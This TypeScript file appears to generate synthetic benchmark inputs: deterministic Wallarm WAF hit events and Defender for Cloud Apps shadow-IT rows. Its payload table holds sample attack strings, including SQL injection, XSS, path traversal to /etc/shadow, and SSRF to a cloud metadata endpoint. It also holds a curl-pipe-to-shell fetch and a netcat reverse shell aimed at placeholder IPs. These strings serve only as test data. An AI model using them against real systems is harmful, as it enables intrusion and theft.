// Synthetic but realistic inputs for the benchmarks: Wallarm `new_hits` envelopes of about 1 KiB (the shape of
// test/fixtures/wallarm/hits-2026-host.json, with the fields that differ between real hits varied) and Defender for
// Cloud Apps discovery rows (test/fixtures/mcas/log-analytics-export.json). Deterministic: the same index gives the
// same event, so runs compare.

/** A tiny deterministic PRNG (mulberry32). */
export function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const pick = <T>(r: () => number, list: readonly T[]): T => list[Math.floor(r() * list.length)] as T;
const hex = (r: () => number, n: number) => Array.from({ length: n }, () => Math.floor(r() * 16).toString(16)).join('');

const ATTACKS = ['sqli', 'xss', 'rce', 'ptrav', 'crlf', 'nosqli', 'ssrf', 'xxe', 'ldapi', 'scanner'] as const;
const PAYLOADS: Record<string, string[]> = {
  sqli: ["1' select version();", "' OR 1=1 --", '1 UNION SELECT username, password FROM users--', "'; DROP TABLE orders;--"],
  xss: ['<script>alert(document.cookie)</script>', '"><img src=x onerror=alert(1)>', 'javascript:alert(1)'],
  rce: ['; cat /etc/passwd', '$(curl http://203.0.113.9/x.sh | sh)', '| nc -e /bin/sh 198.51.100.4 4444'],
  ptrav: ['../../../../etc/shadow', '..%2f..%2f..%2fwindows%2fwin.ini'],
  crlf: ['%0d%0aSet-Cookie:%20session=evil'],
  nosqli: ['{"$gt": ""}', '{"$where": "sleep(5000)"}'],
  ssrf: ['http://169.254.169.254/latest/meta-data/', 'http://127.0.0.1:6379/'],
  xxe: ['<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'],
  ldapi: ['*)(uid=*))(|(uid=*'],
  scanner: ['/.git/config', '/wp-login.php', '/.env'],
};
const HOSTS = ['shop.example.com', 'api.example.com', 'login.example.com', 'static.example.net', 'partners.example.org'];
const PATHS = ['/', '/login', '/api/v1/orders', '/api/v1/users/{id}', '/search', '/checkout', '/admin', '/graphql', '/upload'];
const METHODS = ['GET', 'POST', 'PUT', 'DELETE', 'PATCH'];
const MODES = ['monitoring', 'safe_blocking', 'block'];
const APPS = ['default', 'shop', 'public-api', 'partner-portal'];

/** A Wallarm webhook envelope for one hit (notification_type new_hits), about 1 KiB of compact JSON. */
export function wallarmHit(i: number, baseTime = 1795600000): Record<string, unknown> {
  const r = prng(i + 1);
  const type = pick(r, ATTACKS);
  const path = pick(r, PATHS).replace('{id}', String(Math.floor(r() * 100000)));
  const requestTime = baseTime + Math.floor(r() * 3600);
  const requestId = hex(r, 32);
  return {
    summary: '[Wallarm] New hit detected',
    details: {
      client_name: 'Acme Retail',
      cloud: 'EU',
      notification_type: 'new_hits',
      hit: {
        host: pick(r, HOSTS),
        heur_distance: Math.round(r() * 4000) / 100,
        method: pick(r, METHODS),
        path,
        payloads: [pick(r, PAYLOADS[type] ?? [''])],
        point: ['get', pick(r, ['id', 'q', 'user', 'redirect', 'file'])],
        probability: Math.round(r() * 10000) / 100,
        remote_country: pick(r, ['US', 'DE', 'NL', 'BR', 'CN', 'RU', null]),
        remote_port: 1024 + Math.floor(r() * 60000),
        remote_addr4: `${Math.floor(r() * 223) + 1}.${Math.floor(r() * 256)}.${Math.floor(r() * 256)}.${Math.floor(r() * 256)}`,
        remote_addr6: null,
        datacenter: pick(r, ['unknown', 'aws', 'gce', 'azure', 'hetzner']),
        tor: 'none',
        request_time: requestTime,
        create_time: requestTime + Math.floor(r() * 5),
        response_len: Math.floor(r() * 50000),
        response_status: pick(r, [200, 403, 404, 500]),
        response_time: Math.floor(r() * 900),
        stamps: [Math.floor(r() * 10000)],
        regex: [],
        stamps_hash: Math.floor(r() * 2 ** 31),
        regex_hash: -2147483648,
        type,
        block_status: pick(r, ['monitored', 'blocked']),
        brute_counter: `b:${Math.floor(r() * 9999)}:${hex(r, 16)}`,
        final_wallarm_mode: pick(r, MODES),
        libproton_version: '4.8.0',
        lom_id: Math.floor(r() * 1000),
        protocol: 'rest',
        proxy_type: null,
        request_id: requestId,
        wallarm_mode: null,
        id: [`hits_production_1111_${new Date(requestTime * 1000).toISOString().slice(0, 7).replace('-', '')}_v_1`, hex(r, 16)],
        object_type: 'hit',
        anomaly: Math.round(r() * 1000) / 1000,
        parameter: `GET_${pick(r, ['id', 'q', 'user'])}_value`,
        applications: [pick(r, APPS)],
      },
    },
  };
}

const STREAMS = ['Win10 Endpoint Users', 'Marketing Department', 'Finance Proxy', 'Branch Office Firewall', 'Zscaler Cloud'];
const CLOUD_APPS = [
  ['Microsoft OneDrive for Business', '15600', 'Cloud storage'],
  ['Dropbox', '11627', 'Cloud storage'],
  ['Salesforce', '11114', 'CRM'],
  ['Slack', '20893', 'Collaboration'],
  ['WeTransfer', '25992', 'Cloud storage'],
  ['GitHub', '11230', 'IT services'],
] as const;

/** A Defender for Cloud Apps discovery row, as a Log Analytics export gives it (about 700 bytes). */
export function mcasRow(i: number): Record<string, unknown> {
  const r = prng(1_000_000 + i);
  const [appName, appId, category] = pick(r, CLOUD_APPS);
  const user = `user${Math.floor(r() * 5000)}@contoso.com`;
  const uploaded = Math.floor(r() * 2 ** 33);
  const downloaded = Math.floor(r() * 2 ** 33);
  return {
    TenantId: '6f4b2c3a-91d0-4b8e-a1c2-3d4e5f607182',
    SourceSystem: 'Azure',
    TimeGenerated: new Date(Date.UTC(2026, 10, 24, 10) + Math.floor(r() * 3600_000)).toISOString(),
    StreamName: pick(r, STREAMS),
    MachineName: `LAPTOP-${hex(r, 6).toUpperCase()}`,
    MachineId: hex(r, 40),
    TotalEvents: Math.floor(r() * 10000),
    BlockedEvents: Math.floor(r() * 50),
    UploadedBytes: uploaded,
    TotalBytes: uploaded + downloaded,
    DownloadedBytes: downloaded,
    IpAddress: `10.${Math.floor(r() * 256)}.${Math.floor(r() * 256)}.${Math.floor(r() * 256)}`,
    UserName: user,
    EnrichedUserName: user,
    RawUserName: `CONTOSO\\${user.split('@')[0]}`,
    RichUserName: `User ${Math.floor(r() * 5000)}`,
    AadTenantId: '72f988bf-86f1-41af-91ab-2d7cd011db47',
    AppName: appName,
    AppId: appId,
    AppInstance: `contoso-${hex(r, 4)}.example.com`,
    AppCategory: category,
    AppTags: pick(r, [['sanctioned'], ['unsanctioned'], ['sanctioned', 'Corporate storage'], []]),
    AppScore: Math.floor(r() * 11),
    Date: '2026-11-24T00:00:00Z',
    Type: 'McasShadowItReporting',
  };
}

/** n events as one JSON array body. */
export function jsonArrayBody(make: (i: number) => unknown, n: number, offset = 0): Buffer {
  const parts: string[] = [];
  for (let i = 0; i < n; i += 1) parts.push(JSON.stringify(make(offset + i)));
  return Buffer.from(`[${parts.join(',')}]`);
}

/** Events of ~1 KiB until the body reaches `bytes` (a JSON array), for the body-limit memory run. */
export function bodyOfSize(make: (i: number) => unknown, bytes: number): { body: Buffer; events: number } {
  const parts: string[] = [];
  let size = 2;
  for (let i = 0; ; i += 1) {
    const s = JSON.stringify(make(i));
    if (size + s.length + 1 > bytes) break;
    parts.push(s);
    size += s.length + 1;
  }
  return { body: Buffer.from(`[${parts.join(',')}]`), events: parts.length };
}
